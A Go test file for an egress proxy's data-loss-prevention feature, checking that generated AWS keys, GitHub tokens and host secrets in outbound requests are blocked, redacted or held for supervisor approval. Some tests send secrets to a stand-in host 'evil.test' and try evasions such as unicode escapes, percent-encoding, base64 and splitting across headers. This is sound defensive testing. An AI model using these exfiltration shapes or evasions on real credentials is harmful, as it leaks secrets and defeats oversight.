package egressproxy

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"mime/multipart"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/bot-bottle/bot-bottle/dlp/dlptest"
	"github.com/bot-bottle/bot-bottle/schemas"
)

// Outbound DLP: routes whose policy is block (open.allowed.test, the
// default), redact (other.allowed.test) and supervise (evil.test).
var dlpRoutes = []schemas.RouteRule{
	{Host: "open.allowed.test"},
	{Host: "other.allowed.test", DLP: schemas.DLPRedact},
	{Host: "evil.test", DLP: schemas.DLPSupervise},
	{Host: "api.allowed.test", Auth: &schemas.SlotAuth{Scheme: "Bearer", Slot: "EGRESS_TOKEN_0"}, DLP: schemas.DLPRedact},
}

// secretBodies are the three shapes a secret goes out in: a JSON body, a
// multipart upload and a gzip body.
func secretBodies(t *testing.T, secret string) map[string]struct {
	body []byte
	hdr  http.Header
} {
	js, _ := json.Marshal(map[string]string{"msg": "deploy with", "key": secret})
	var mp bytes.Buffer
	mw := multipart.NewWriter(&mp)
	fw, _ := mw.CreateFormFile("file", "creds.txt")
	fw.Write([]byte("[default]\naws_access_key_id = " + secret + "\n"))
	mw.Close()
	return map[string]struct {
		body []byte
		hdr  http.Header
	}{
		"json":      {js, http.Header{"Content-Type": {"application/json"}}},
		"multipart": {mp.Bytes(), http.Header{"Content-Type": {mw.FormDataContentType()}}},
		"gzip":      {compress(t, js, "gzip"), http.Header{"Content-Type": {"application/json"}, "Content-Encoding": {"gzip"}}},
	}
}

// noSecret fails when any event, log line or denial carries the value.
func (f *fixture) noSecret(t *testing.T, secret string, more ...[]byte) {
	t.Helper()
	for _, ev := range f.pub.Events() {
		if bytes.Contains(ev.Payload, []byte(secret)) {
			t.Errorf("event %s carries the secret", ev.Kind)
		}
	}
	if strings.Contains(f.logs.String(), secret) {
		t.Error("the log carries the secret")
	}
	for _, b := range more {
		if bytes.Contains(b, []byte(secret)) {
			t.Error("a response carries the secret")
		}
	}
}

func TestDLPBlock(t *testing.T) {
	f := newFixture(t, dlpRoutes)
	aws := dlptest.AWSKeyID()
	for name, c := range secretBodies(t, aws) {
		resp, body, err := f.do("POST", "https://open.allowed.test/"+name, bytes.NewReader(c.body), c.hdr)
		if err != nil {
			t.Fatal(err)
		}
		d := wantReason(t, resp, body, ReasonDLPMatch)
		if d.Rule != "aws-access-token" || !strings.Contains(d.Error, "dlp: aws-access-token") {
			t.Errorf("%s: the denial does not name the rule: rule %q, error %q", name, d.Rule, d.Error)
		}
		f.noSecret(t, aws, body)
	}
	// In a header, and in the URL.
	pat := dlptest.GitHubPAT()
	resp, body, err := f.do("GET", "https://open.allowed.test/x", nil, http.Header{"X-Token": {pat}})
	if err != nil {
		t.Fatal(err)
	}
	if d := wantReason(t, resp, body, ReasonDLPMatch); d.Rule != "github-pat" {
		t.Errorf("header: rule %q", d.Rule)
	}
	resp, body, err = f.do("GET", "https://open.allowed.test/x?t="+pat, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	wantReason(t, resp, body, ReasonDLPMatch)
	f.noSecret(t, pat, body)
	if n := len(f.up.seen()); n != 0 {
		t.Errorf("the upstream received %d requests", n)
	}
	var denials int
	for _, ev := range f.pub.Events() {
		var den schemas.Denial
		if ev.Kind == schemas.KindDenial && ev.Decode(&den) == nil && den.Rule != "" {
			denials++
		}
	}
	if denials != 5 {
		t.Errorf("%d denial events name a rule, want 5", denials)
	}
}

func TestDLPRedact(t *testing.T) {
	f := newFixture(t, dlpRoutes)
	aws := dlptest.AWSKeyID()
	for name, c := range secretBodies(t, aws) {
		resp, body, err := f.do("POST", "https://other.allowed.test/"+name, bytes.NewReader(c.body), c.hdr)
		if err != nil || resp.StatusCode != 200 {
			t.Fatalf("%s: %v %d %s", name, err, resp.StatusCode, body)
		}
	}
	seen := f.up.seen()
	if len(seen) != 3 {
		t.Fatalf("the upstream received %d requests, want 3", len(seen))
	}
	for _, s := range seen {
		if bytes.Contains(s.Body, []byte(aws)) {
			t.Errorf("%s: the upstream received the secret", s.URI)
		}
		if !bytes.Contains(s.Body, []byte("[redacted:aws-access-token]")) {
			t.Errorf("%s: the body was not redacted in place: %q", s.URI, s.Body)
		}
		if s.Header.Get("Content-Encoding") != "" {
			t.Errorf("%s: a redacted body is sent decoded, but Content-Encoding is %q", s.URI, s.Header.Get("Content-Encoding"))
		}
		// The upstream read exactly Content-Length bytes: net/http fails
		// a body shorter than its Content-Length, and a longer one would
		// have left bytes for a next request.
	}
	// A header value is redacted too; the injected credential still goes.
	resp, body, err := f.do("GET", "https://api.allowed.test/h", nil, http.Header{"X-Key": {"k=" + aws}})
	if err != nil || resp.StatusCode != 200 {
		t.Fatalf("header: %v %s", err, body)
	}
	last := f.up.seen()[3]
	if got := last.Header.Get("X-Key"); got != "k=[redacted:aws-access-token]" {
		t.Errorf("header redacted to %q", got)
	}
	if last.Header.Get("Authorization") != "Bearer "+testToken {
		t.Error("the route's credential was not injected")
	}
	// A secret found only behind escapes cannot be rewritten where it was
	// sent: refused, not sent.
	var esc strings.Builder
	for _, c := range []byte(aws) {
		esc.WriteString(`\u00` + strings.ToUpper(string("0123456789abcdef"[c>>4])+string("0123456789abcdef"[c&15])))
	}
	resp, body, err = f.do("POST", "https://other.allowed.test/esc", strings.NewReader(`{"k":"`+esc.String()+`"}`), nil)
	if err != nil {
		t.Fatal(err)
	}
	wantReason(t, resp, body, ReasonDLPMatch)
	f.noSecret(t, aws, body)
}

// holdDesk is a Supervisor that hands each held request to the test,
// which answers it on the channel the hold waits on.
type holdDesk struct {
	mu   sync.Mutex
	held []schemas.Release
	next chan HoldOutcome
}

func (h *holdDesk) Hold(ctx context.Context, rel schemas.Release) HoldOutcome {
	h.mu.Lock()
	h.held = append(h.held, rel)
	h.mu.Unlock()
	select {
	case out := <-h.next:
		return out
	case <-ctx.Done():
		return HoldOutcome{TimedOut: true}
	}
}

func TestDLPSupervise(t *testing.T) {
	f := newFixture(t, dlpRoutes, func(c *Config) { c.Limits.DLPHoldTimeout = 2 * time.Second })
	aws := dlptest.AWSKeyID()
	js := []byte("{\"note\":\"line\\u001b[31m\x07 one\",\"key\":\"" + aws + "\"}")

	// No supervisor attached: refused, and said so.
	resp, body, err := f.do("POST", "https://evil.test/none", bytes.NewReader(js), nil)
	if err != nil {
		t.Fatal(err)
	}
	wantReason(t, resp, body, ReasonDLPUnsupervised)

	desk := &holdDesk{next: make(chan HoldOutcome)}
	f.proxy.SetSupervisor(desk)
	send := func(path string) (chan *http.Response, chan []byte) {
		rc, bc := make(chan *http.Response, 1), make(chan []byte, 1)
		go func() {
			resp, body, err := f.do("POST", "https://evil.test"+path, bytes.NewReader(js), nil)
			if err != nil {
				t.Error(err)
				close(rc)
				return
			}
			rc <- resp
			bc <- body
		}()
		return rc, bc
	}
	// Released: the upstream receives it once, as sent.
	rc, _ := send("/release")
	desk.next <- HoldOutcome{Released: true}
	if resp := <-rc; resp == nil || resp.StatusCode != 200 {
		t.Fatalf("released request: %v", resp)
	}
	// Refused.
	rc, bc := send("/refuse")
	desk.next <- HoldOutcome{}
	wantReason(t, <-rc, <-bc, ReasonDLPRefused)
	// Nobody answers: timed out.
	rc, bc = send("/timeout")
	d := wantReason(t, <-rc, <-bc, ReasonDLPHoldTimeout)
	if !strings.Contains(d.Error, "timed out") || d.Rule != "aws-access-token" {
		t.Errorf("timeout denial: %+v", d)
	}

	seen := f.up.seen()
	if len(seen) != 1 || seen[0].URI != "/release" || !bytes.Equal(seen[0].Body, js) {
		t.Fatalf("the upstream saw %d requests, want the released one once, unchanged", len(seen))
	}
	desk.mu.Lock()
	defer desk.mu.Unlock()
	if len(desk.held) != 3 {
		t.Fatalf("%d holds, want 3", len(desk.held))
	}
	rel := desk.held[0]
	if len(rel.Rules) != 1 || rel.Rules[0] != "aws-access-token" || rel.Method != "POST" || rel.Path != "/release" {
		t.Errorf("release proposal: %+v", rel)
	}
	if !strings.Contains(rel.Excerpt, "[redacted:aws-access-token]") || strings.Contains(rel.Excerpt, aws) {
		t.Errorf("excerpt %q does not hide the secret", rel.Excerpt)
	}
	if strings.ContainsAny(rel.Excerpt, "\x07\x1b\n") {
		t.Errorf("excerpt %q carries control characters", rel.Excerpt)
	}
	if time.Until(rel.Until) > 2*time.Second {
		t.Errorf("hold until %v is past the timeout", rel.Until)
	}
	f.noSecret(t, aws)
}

func TestDLPHostSecrets(t *testing.T) {
	secret := dlptest.Random(32)
	f := newFixture(t, dlpRoutes, func(c *Config) { c.HostSecrets = []schemas.Secret{schemas.NewSecret(secret)} })
	for name, body := range map[string]string{
		"raw":    "x=" + secret,
		"base64": base64.StdEncoding.EncodeToString([]byte("pre " + secret)),
	} {
		resp, b, err := f.do("POST", "https://open.allowed.test/"+name, strings.NewReader(body), nil)
		if err != nil {
			t.Fatal(err)
		}
		if d := wantReason(t, resp, b, ReasonDLPMatch); d.Rule != "host-secret" {
			t.Errorf("%s: rule %q", name, d.Rule)
		}
	}
	half := len(secret) / 2
	resp, b, err := f.do("GET", "https://open.allowed.test/split", nil, http.Header{"X-A": {secret[:half]}, "X-B": {secret[half:]}})
	if err != nil {
		t.Fatal(err)
	}
	wantReason(t, resp, b, ReasonDLPMatch)
	f.noSecret(t, secret, b)
	// Redacted where the route says so.
	resp, b, err = f.do("POST", "https://other.allowed.test/r", strings.NewReader("x="+secret+"&y=1"), nil)
	if err != nil || resp.StatusCode != 200 {
		t.Fatalf("redact: %v %s", err, b)
	}
	if s := f.up.seen(); len(s) != 1 || string(s[0].Body) != "x=[redacted:host-secret]&y=1" {
		t.Errorf("redacted body: %q", s)
	}
}

// TestDLPStreamedBody: a body too long to buffer is scanned as it streams;
// a secret in it aborts the upstream request whatever the route's policy.
func TestDLPStreamedBody(t *testing.T) {
	f := newFixture(t, dlpRoutes, func(c *Config) { c.Limits.BodyBufferBytes = 64 << 10 })
	aws := dlptest.AWSKeyID()
	body := append(bytes.Repeat([]byte("a"), 200<<10), []byte(" key="+aws+" ")...)
	body = append(body, bytes.Repeat([]byte("b"), 100<<10)...)
	resp, b, err := f.do("POST", "https://other.allowed.test/stream", bytes.NewReader(body), nil)
	if err != nil {
		t.Fatal(err)
	}
	if d := wantReason(t, resp, b, ReasonDLPMatch); d.Rule != "aws-access-token" {
		t.Errorf("rule %q", d.Rule)
	}
	for _, s := range f.up.seen() {
		if bytes.Contains(s.Body, []byte(aws)) {
			t.Error("the upstream received the secret")
		}
	}
}

// TestDLPRedactsEveryOccurrence: under redact, every copy of a secret
// goes, and one that also hides behind escapes refuses the request.
func TestDLPRedactsEveryOccurrence(t *testing.T) {
	secret := dlptest.Random(32)
	f := newFixture(t, dlpRoutes, func(c *Config) { c.HostSecrets = []schemas.Secret{schemas.NewSecret(secret)} })
	aws1, aws2 := dlptest.AWSKeyID(), dlptest.AWSKeyID()
	body := "a=" + secret + "&b=" + secret + "&c=" + aws1 + "&d=" + aws2
	resp, b, err := f.do("POST", "https://other.allowed.test/twice", strings.NewReader(body), nil)
	if err != nil || resp.StatusCode != 200 {
		t.Fatalf("%v %s", err, b)
	}
	got := string(f.up.seen()[0].Body)
	if got != "a=[redacted:host-secret]&b=[redacted:host-secret]&c=[redacted:aws-access-token]&d=[redacted:aws-access-token]" {
		t.Errorf("redacted body: %q", got)
	}
	escaped := "c=" + aws1 + "&d=" + strings.ReplaceAll(aws2, "A", "%41")
	resp, b, err = f.do("POST", "https://other.allowed.test/escaped", strings.NewReader(escaped), nil)
	if err != nil {
		t.Fatal(err)
	}
	wantReason(t, resp, b, ReasonDLPMatch)
}
